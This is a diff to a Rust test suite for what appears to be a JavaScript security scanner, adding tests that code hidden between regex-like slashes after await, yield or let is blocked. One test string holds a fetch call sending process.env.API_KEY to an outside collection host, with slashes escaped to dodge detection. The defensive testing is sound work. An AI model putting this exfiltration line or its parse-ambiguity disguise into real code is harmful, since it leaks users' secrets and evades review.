@@ -143,15 +143,29 @@ fn text_that_a_script_and_a_module_read_differently_is_undetermined() {
         ("// <!--\nrun(1)\n", None),
         ("run(`${a}<!--`)\n", None),
         ("await /run(1)/g;\n", Some("1")),
-        ("function f() {\n  return await /run(1)/g;\n}\n", Some("2")),
-        ("const f = () => await\n/run(1)/.x;\n", Some("2")),
         ("async function f() { await /run(1)/g; }\n", None),
-        ("function f() {\n  yield /run(1)/g;\n}\n", Some("2")),
         ("function* f() { yield /run(1)/g; }\n", None),
         ("await run(/a/);\n", None),
     ] {
         assert_eq!(place(text).as_deref(), line, "{text:?}");
     }
+}
+
+#[test]
+fn what_stands_between_slashes_behind_a_name_is_code() {
+    let sends = "fetch('https://collect.rowdrop.net/?' + process.env.API_KEY)";
+    for text in [
+        format!("await /{sends}/g;\n"),
+        format!("function f() {{\n  return await /{sends}/g;\n}}\nf();\n"),
+        format!("const f = () => await\n/{sends}/g;\nf();\n"),
+        format!("function f() {{\n  return yield /{sends}/g;\n}}\nf();\n"),
+        format!("yield /{sends}/g;\n"),
+        format!("let\n/{sends}/g;\n"),
+    ] {
+        let text = text.replace("https://", "https:\\u002f\\u002f");
+        assert_eq!(judged(&text).decision.verdict, Verdict::Block, "{text}");
+    }
+    assert_eq!(judged("async function f() {\n  return await /run(1)/g;\n}\nf();\n").decision.verdict, Verdict::Allow);
 }
 
 fn scan(folder: &Path, name: &str, bytes: &[u8]) -> Output {
